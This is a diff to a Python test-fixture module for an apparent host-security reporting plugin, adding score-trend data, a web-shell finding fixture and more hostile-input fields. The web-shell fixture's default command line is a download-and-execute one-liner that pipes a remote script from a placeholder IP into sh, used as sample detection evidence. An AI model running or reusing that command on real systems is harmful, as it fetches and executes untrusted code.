@@ -5,12 +5,13 @@
 
 from __future__ import annotations
 
+import dataclasses
 import random
 import typing as t
 
 from ansible_collections.bulwark.servers.plugins.plugin_utils.ocsf.statuses import ACTIVE, STATUSES
-from ansible_collections.bulwark.servers.plugins.plugin_utils.report import cards, model, shown
-from ansible_collections.bulwark.servers.plugins.plugin_utils.store import Finding, HistoryEntry, Run
+from ansible_collections.bulwark.servers.plugins.plugin_utils.report import cards, model, score_trend, shown, summary
+from ansible_collections.bulwark.servers.plugins.plugin_utils.store import Finding, HistoryEntry, Run, Simulation
 
 NOW = 1_764_000_000.0
 DAY = 86_400.0
@@ -152,12 +153,20 @@ def fleet(hosts: int = 12, findings: int = 140, days: int = 30) -> model.ReportD
     ]
     runs = tuple(run(NOW - day * DAY, hosts=hosts, capabilities=("file_integrity", "audit")) for day in range(days))
     found = tuple(_finding(chance, number, names) for number in range(findings))
-    return data(
+    made = data(
         runs=runs,
         findings=found,
         histories={each.uid: _history(each) for each in found},
         coverage=tuple(entry for number, name in enumerate(names) for entry in _host_coverage(number, name)),
     )
+    return dataclasses.replace(made, scores=_scores(made, days))
+
+
+def _scores(made: model.ReportData, days: int) -> tuple[score_trend.Point, ...]:
+    """Return a score for each day, of which the last one is true."""
+    score = summary.score(made)
+    last = score.total.score if score else 0.0
+    return tuple(score_trend.Point(NOW - day * DAY, max(0.0, last - day % 9)) for day in reversed(range(days)))
 
 
 def _finding(chance: random.Random, number: int, names: list[str]) -> Finding:
@@ -209,6 +218,24 @@ def _event(chance: random.Random, path: str, technique: str) -> dict[str, t.Any]
             }
         ],
     }
+
+
+def web_shell(command: str = "sh -c 'curl -s http://192.0.2.9/x | sh'") -> Finding:
+    """Return a finding with two processes of the same ancestors, one of them with this command line."""
+    server = {"pid": 810, "name": "nginx", "path": "/usr/sbin/nginx", "parent_process": {"pid": 1, "name": "systemd"}}
+    shell = {"pid": 4711, "name": "sh", "path": "/usr/bin/sh", "cmd_line": command, "parent_process": server}
+    other = {"pid": 4712, "name": "id", "cmd_line": "id", "parent_process": server}
+    return finding(
+        uid="00000000-0000-5000-8000-0000000000aa",
+        alert="setuid_created",
+        severity="critical",
+        subject="sh",
+        event={
+            "message": "A web server started a shell.",
+            "finding_info": {"attacks": [{"technique": {"uid": "T1548.001"}}]},
+            "evidences": [{"process": shell}, {"process": other}],
+        },
+    )
 
 
 def entry(
@@ -293,6 +320,7 @@ def hostile(attack: str) -> model.ReportData:
                 }
             },
             {"file": {"path": attack, "hashes": [{"algorithm": attack, "value": attack}]}},
+            {"process": {"pid": 7, "cmd_line": attack, "parent_process": {"pid": 1, "name": attack, "uid": attack}}},
         ],
         "unmapped": {"notes": [attack]},
     }
@@ -326,4 +354,5 @@ def hostile(attack: str) -> model.ReportData:
         },
         techniques={shown.key(attack): model.Technique(attack, attack, attack, known=False)},
         failed_exports=(model.FailedExport(attack, 3, NOW - DAY, attack),),
+        simulations=(Simulation(attack, attack, NOW - DAY, NOW, attack, (attack,), findings=3),),
     )
